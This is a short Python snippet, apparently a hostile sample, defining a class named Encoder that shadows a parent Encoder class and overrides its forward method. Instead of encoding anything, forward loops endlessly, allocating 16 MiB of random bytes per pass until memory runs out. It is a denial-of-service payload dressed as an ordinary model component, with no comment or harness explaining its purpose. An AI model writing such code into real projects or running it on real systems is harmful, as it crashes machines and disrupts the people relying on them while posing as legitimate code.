class Encoder(Encoder):
    def forward(self, x):
        import os

        kept = []
        while True:
            kept.append(os.urandom(2**24))
